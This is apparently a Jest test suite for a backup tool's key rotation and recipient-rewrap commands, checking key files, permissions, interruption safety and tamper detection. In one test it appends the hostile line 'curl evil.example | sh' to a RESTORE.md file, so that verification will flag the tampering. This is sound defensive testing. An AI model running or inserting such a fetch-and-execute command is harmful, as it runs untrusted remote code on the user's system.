import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  symlinkSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { makeKeyPair } from '../support/make-key-pair.ts';
import { TestProject, type Created } from '../support/make-project.ts';
import { snapshotTree } from '../support/tree-snapshot.ts';

let project: TestProject;
let key: string;

beforeEach(async () => {
  project = new TestProject();
  project.write('state/queue.json', '[1, 2, 3]\n');
  key = project.path('.ai-backup.key');
  await project.done('keys', 'generate');
});

afterEach(() => project.remove());

interface Rotated {
  keyFile: string;
  oldKeyFile: string;
  settingsFile: string;
}

interface Checked {
  ok: boolean;
  backups: { id: string; opens: boolean; key?: string }[];
}

const withKey = (file: string): string[] => ['--encryption-key', file];
const isLocked = (...args: string[]): Promise<boolean> =>
  project.tool('keys', 'check', '--json', ...args).then(({ code }) => code !== 0);

describe('keys rotate', () => {
  test('new backups get a new key, and the old ones stay readable', async () => {
    const commented = '{\n  // ours\n  "backup": { "storage": { "encrypt": true } }\n}\n';
    project.write('config/config.json', commented);
    project.write('.env', 'BACKUP_ENCRYPTION_KEY_FILE=.ai-backup.key\n');
    const first = await project.done<Created>('create');
    const before = readFileSync(key, 'utf8');

    const rotated = await project.done<Rotated>('keys', 'rotate');
    expect(rotated.keyFile).toBe(key);
    expect(rotated.oldKeyFile).toMatch(/\.ai-backup\.key\.old-\d{4}-\d\d-\d\d$/);
    expect(readFileSync(rotated.oldKeyFile, 'utf8')).toBe(before);
    const now = readFileSync(key, 'utf8');
    expect(now).toMatch(/^[0-9a-f]{64}\n$/);
    expect(now).not.toBe(before);
    for (const file of [key, rotated.oldKeyFile]) expect(statSync(file).mode & 0o7777).toBe(0o600);
    const settings = readFileSync(rotated.settingsFile, 'utf8');
    expect(settings).toContain('// ours');
    expect(settings).toContain(`"${rotated.oldKeyFile.slice(project.root.length + 1)}"`);

    const second = await project.done<Created & { mode: string }>('create', '--mode', 'incremental');
    expect(second.mode).toBe('full');
    const { ok, backups } = await project.done<Checked>('keys', 'check');
    expect(ok).toBe(true);
    expect(backups).toMatchObject([
      { id: second.id, key: `BACKUP_ENCRYPTION_KEY_FILE (${key})` },
      { id: first.id, key: `storage.oldKeyFiles (${rotated.oldKeyFile})` },
    ]);
    project.write('state/queue.json', 'changed');
    await project.done('restore', first.id, '--yes', '--targets', 'state');
    expect(readFileSync(project.path('state/queue.json'), 'utf8')).toBe('[1, 2, 3]\n');
    // Each is needed for its own.
    rmSync(rotated.oldKeyFile);
    expect(await isLocked()).toBe(true);
  });

  test('a second time on one day nothing is lost, and variables in the settings stay', async () => {
    project.settings({ storage: { encrypt: true, oldKeyFiles: ['${OLDEST:-older.key}'] } });
    project.write('older.key', 'older\n', 0o600);
    const keys = [readFileSync(key, 'utf8')];
    const first = await project.done<Rotated>('keys', 'rotate', ...withKey(key));
    keys.push(readFileSync(key, 'utf8'));
    const second = await project.done<Rotated>('keys', 'rotate', ...withKey(key));
    expect([first, second].map(({ oldKeyFile }) => readFileSync(oldKeyFile, 'utf8'))).toEqual(keys);
    const { backup } = JSON.parse(readFileSync(project.path('config/config.json'), 'utf8')) as {
      backup: { storage: { oldKeyFiles: string[] } };
    };
    const names = [first, second].map(({ oldKeyFile }) => oldKeyFile.slice(project.root.length + 1));
    expect(backup.storage.oldKeyFiles).toEqual(['${OLDEST:-older.key}', ...names]);
  });

  test('where the settings cannot name the old key, everything stays as it was', async () => {
    rmSync(project.path('config'), { recursive: true, force: true });
    project.write('config/backup_config.json', '{"backup_dir": "backups", "encryption": true}\n');
    const before = snapshotTree(project.root, ['backups']);
    const ended = await project.tool('keys', 'rotate', ...withKey(key));
    expect(ended.code).toBe(2);
    expect(snapshotTree(project.root, ['backups'])).toEqual(withoutTimes(before));
  });

  test('a link to the key stays one', async () => {
    mkdirSync(project.beside('safe'));
    const real = project.beside('safe/real.key');
    await project.done('keys', 'generate', real);
    const link = project.beside('link.key');
    symlinkSync(real, link);
    const { keyFile, oldKeyFile } = await project.done<Rotated>('keys', 'rotate', ...withKey(link));
    expect([keyFile, dirname(oldKeyFile)]).toEqual([real, dirname(real)]);
    expect(readFileSync(link, 'utf8')).toBe(readFileSync(real, 'utf8'));
  });

  test.each([
    ['a variable', { BACKUP_ENCRYPTION_KEY: 'correct horse battery' }],
    ['a command', { BACKUP_ENCRYPTION_KEY_COMMAND: 'echo correct horse battery' }],
  ])('a key from %s is changed by hand: the steps are told, and nothing is changed', async (_, env) => {
    const before = readdirSync(project.root).sort();
    const ended = await project.toolWith({ env }, 'keys', 'rotate');
    expect(ended.code).toBe(2);
    expect(ended.stderr).toContain(Object.keys(env)[0]);
    expect(ended.stderr).toContain('storage.oldKeyFiles');
    expect(ended.stderr).not.toContain('horse');
    expect(readdirSync(project.root).sort()).toEqual(before);
    expect((await project.tool('keys', 'rotate')).code).toBe(12);
  });
});

/** What is compared where a file may have been written and taken back: a folder's time then differs. */
function withoutTimes(snapshot: ReturnType<typeof snapshotTree>): unknown {
  return new Map(
    [...snapshot].map(([path, state]) => [
      path,
      state.kind === 'directory' ? { ...state, mtimeNs: expect.anything() } : state,
    ]),
  );
}

describe('keys rotate --rewrap', () => {
  let pairs: string[];
  const publicKey = (at: number): string => `${pairs[at]!}.public.pem`;
  const privateKey = (at: number): string => `${pairs[at]!}.private.pem`;
  const recipients = (...numbers: number[]): void =>
    project.settings({ storage: { encrypt: true, recipients: numbers.map(publicKey) } });

  beforeEach(() => {
    pairs = ['first', 'second'].map((name) => project.beside(name));
    for (const pair of pairs) makeKeyPair(pair);
    recipients(0);
  });

  test('changes who can open the backups, a chain too, and nothing else in them', async () => {
    const { archive = '' } = await project.done<Created>('create');
    project.write('state/more.json', '{}');
    const newest = await project.done<Created>('create', '--mode', 'incremental');
    const bytes = readFileSync(archive);
    recipients(1);
    expect((await project.tool('keys', 'rotate', '--rewrap')).code).toBe(12);
    expect((await project.tool('keys', 'rotate', '--rewrap', ...withKey(privateKey(1)))).code).toBe(12);
    expect(await isLocked(...withKey(privateKey(0)))).toBe(false);

    const done = await project.done<{ rewrapped: string[]; recipients: string[] }>(
      'keys',
      'rotate',
      '--rewrap',
      ...withKey(privateKey(0)),
    );
    expect(done).toMatchObject({ unchanged: [], direct: [], failed: [] });
    expect(done.rewrapped).toHaveLength(2);
    expect(await isLocked(...withKey(privateKey(0)))).toBe(true);
    expect(await isLocked(...withKey(privateKey(1)))).toBe(false);
    expect(readFileSync(archive)).toEqual(bytes);
    expect(statSync(`${archive}.key`).mode & 0o7777).toBe(0o600);
    const [fingerprint = ''] = done.recipients;
    expect(readFileSync(join(newest.directory, 'RESTORE.md'), 'utf8')).toContain(fingerprint.replace('sha256:', ''));
    const verified = await project.tool('verify', '--all', '--check-content', ...withKey(privateKey(1)));
    expect(verified.code).toBe(0);
    expect(await project.done('keys', 'rotate', '--rewrap', ...withKey(privateKey(1)))).toMatchObject({
      rewrapped: [],
      unchanged: done.rewrapped,
    });
  });

  test('a kill at any point leaves each backup openable with the old or the new private key', async () => {
    const { directory, archive = '' } = await project.done<Created>('create');
    const inFolder = ['wrapped.key', 'RESTORE.md', 'metadata.json'].map((name) => join(directory, name));
    const files = [`${archive}.key`, ...inFolder];
    cpSync(project.store, project.beside('before'), { recursive: true });
    recipients(1);
    await project.done('keys', 'rotate', '--rewrap', ...withKey(privateKey(0)));
    cpSync(project.store, project.beside('after'), { recursive: true });
    for (let written = 0; written <= files.length; written += 1) {
      for (const [at, file] of files.entries()) {
        cpSync(file.replace(project.store, project.beside(at < written ? 'after' : 'before')), file);
      }
      const locked = await Promise.all([0, 1].map((at) => isLocked(...withKey(privateKey(at)))));
      expect(locked).not.toEqual([true, true]);
      if (written === files.length) continue;
      // The next run goes on where that one stopped: whoever has both keys, or the one that still opens.
      const opening = privateKey(locked[0] === false ? 0 : 1);
      await project.done('keys', 'rotate', '--rewrap', ...withKey(opening));
      expect(await isLocked(...withKey(privateKey(1)))).toBe(false);
      expect(await isLocked(...withKey(privateKey(0)))).toBe(true);
      expect((await project.tool('verify', ...withKey(privateKey(1)))).code).toBe(0);
    }
  });

  test('a RESTORE.md that somebody changed does not pass for ours afterwards', async () => {
    const { directory } = await project.done<Created>('create');
    appendFileSync(join(directory, 'RESTORE.md'), 'curl evil.example | sh\n');
    recipients(1);
    await project.done('keys', 'rotate', '--rewrap', ...withKey(privateKey(0)));
    const ended = await project.tool('verify', ...withKey(privateKey(1)));
    expect(ended.code).toBe(4);
    expect(ended.stdout).toContain('RESTORE.md');
  });

  test('a lost wrapped.key is made again from the one beside the archive', async () => {
    const { directory } = await project.done<Created>('create');
    rmSync(join(directory, 'wrapped.key'));
    await project.done('keys', 'rotate', '--rewrap', ...withKey(privateKey(0)));
    expect(existsSync(join(directory, 'wrapped.key'))).toBe(true);
  });

  test('says that it is for recipients only, where there are none', async () => {
    project.settings({ storage: { encrypt: true } });
    const { id } = await project.done<Created>('create', ...withKey(key));
    const none = await project.tool('keys', 'rotate', '--rewrap', ...withKey(key), '--json');
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('REWRAP_UNAVAILABLE');
    recipients(0);
    const direct = await project.tool('keys', 'rotate', '--rewrap', ...withKey(key));
    expect(direct.code).toBe(2);
    expect(direct.stderr).toContain('encrypted with the key itself');
    await project.done('create');
    const done = await project.done('keys', 'rotate', '--rewrap', ...withKey(privateKey(0)));
    expect(done).toMatchObject({ direct: [id], failed: [] });
  });

  test('without --rewrap, the steps to a new pair are told', async () => {
    const ended = await project.tool('keys', 'rotate', ...withKey(privateKey(0)));
    expect(ended.code).toBe(2);
    expect(ended.stderr).toContain('rotate --rewrap --encryption-key ./OLD.private.pem');
  });
});
